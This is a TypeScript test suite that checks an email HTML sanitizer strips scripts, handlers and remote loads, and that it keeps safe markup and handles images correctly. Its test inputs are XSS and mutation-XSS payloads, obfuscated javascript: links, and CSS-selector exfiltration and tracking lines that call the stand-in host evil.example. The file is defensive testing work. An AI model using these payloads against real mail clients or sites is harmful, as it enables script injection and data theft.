import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml, showImages, shownContentIds } from './sanitize.ts';

/** What must never be left in HTML that we show. */
const ACTIVE =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|video|audio|source|body|html)\b|\son\w+=|javascript:|vbscript:|data:(?!image\/(?:png|jpeg|gif|webp);base64)|\s(?:style|class|id|srcset|background|poster|action|formaction|xlink:href)=|\ssrc="(?!data:image)/i;

describe('[AT-26] HTML of a mail loses everything active and everything that loads', () => {
  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals without an end', '<SCRIPT SRC=http://evil.example/x>'],
    ['an event handler', '<img src=x onerror=alert(1)>'],
    ['a handler without a space', '<img/src="x"/onerror=alert(1)>'],
    ['an svg', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
    [
      'mathml with a mutation',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['a template', '<template><img src=x onerror=alert(1)></template>'],
    ['an xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript link with a tab and an entity', '<a href=" java\tscri&#112;t:alert(1)">x</a>'],
    ['a vbscript link', '<a href="vbscript:x">x</a>'],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
    ['a link without a scheme', '<a href="//evil.example">x</a>'],
    ['a frame', '<iframe src="http://evil.example"></iframe>'],
    ['an object and an embed', '<object data="http://evil.example"></object><embed src="http://evil.example">'],
    ['a form', '<form action="http://evil.example"><input name=a><button formaction="javascript:x">y</button></form>'],
    [
      'a base and a meta',
      '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example">',
    ],
    [
      'a link element',
      '<link rel=stylesheet href="http://evil.example/x.css"><link rel=prefetch href="http://evil.example">',
    ],
    [
      '[AT-32] a style element with selectors',
      '<style>input[value^="a"]{background:url(http://evil.example/a)}</style>',
    ],
    ['[AT-32] a style attribute', '<p style="background:url(http://evil.example/)">x</p>'],
    [
      '[AT-34] a background',
      '<table background="http://evil.example/x"><tr><td background="//evil.example">x</td></tr></table>',
    ],
    ['[AT-34] a srcset', '<img srcset="http://evil.example/x 2x" src="">'],
    [
      '[AT-34] a video with a poster',
      '<video poster="http://evil.example/x"><source src="http://evil.example/y"></video>',
    ],
    ['a picture that is a page', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
    ['a comment for Outlook', '<!--[if mso]><img src="http://evil.example"><![endif]-->'],
    ['class and id', '<p class="a" id="b">x</p>'],
    ['a broken attribute', '<p title="<img src=x onerror=alert(1)>'],
    ['a NUL inside a name', '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>'],
    ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ])('%s', (_, html) =>
    expect(
      sanitizeMailHtml(html)
        .match(/<[^>]*>?/g)
        ?.join('') ?? '',
    ).not.toMatch(ACTIVE),
  );

  it('keeps what people wrote', () => {
    const html =
      '<p>Dear <b>Ada</b>,</p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><p>&lt;b&gt; &amp; é</p>';
    expect(sanitizeMailHtml(html)).toBe(html);
  });

  it('links open apart and tell nothing of us', () => {
    expect(sanitizeMailHtml('<a href="https://a.example/?x=1&y=2" onclick="x()">a</a>')).toBe(
      '<a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
    expect(sanitizeMailHtml('<a href="mailto:a@b.example">a</a>')).toContain('href="mailto:a@b.example"');
  });

  it('text in elements that are dropped stays', () => {
    expect(sanitizeMailHtml('<font color=red>Red</font> <o:p>and</o:p> <section>more</section>')).toBe('Red and more');
  });

  it('ten thousand nested elements keep their text and lose their depth', () => {
    const clean = sanitizeMailHtml(`${'<div>'.repeat(10_000)}deep`);
    expect(clean).toContain('deep');
    expect(clean.split('<div>').length).toBeLessThan(200);
  });

  it('a right-to-left override is shown', () => {
    expect(sanitizeMailHtml('<p>invoice\u202egpj.exe</p>')).toBe('<p>invoice[U+202E]gpj.exe</p>');
  });
});

describe('pictures', () => {
  const html = sanitizeMailHtml(
    '<img src="cid:logo%40firm" alt="Logo"><img src="http://x.example/a.png?b=1&c=2" width="10" height="9999999">',
  );

  it('are placeholders until someone places them', () => {
    expect(html).toBe(
      '<img alt="Logo" data-cid="logo@firm" /><img alt="" width="10" data-remote-src="http://x.example/a.png?b=1&amp;c=2" />',
    );
    expect([...shownContentIds(html)]).toEqual(['logo@firm']);
  });

  it('inside the mail are placed by the caller; remote ones only when asked for', () => {
    const shown = showImages(html, { cid: (id) => `/files/${id}` });
    expect(shown).toContain('src="/files/logo@firm"');
    expect(shown).not.toContain(' src="http');
    const all = showImages(html, { cid: () => null, remote: (url) => `/proxy?u=${encodeURIComponent(url)}"x` });
    expect(all).toContain('src="/proxy?u=http%3A%2F%2Fx.example%2Fa.png%3Fb%3D1%26c%3D2&quot;x"');
    expect(all).toContain('data-cid="logo@firm"');
  });

  it('small ones written into the HTML stay', () => {
    expect(sanitizeMailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe(
      '<img alt="" src="data:image/png;base64,iVBORw0KGgo=" />',
    );
  });
});
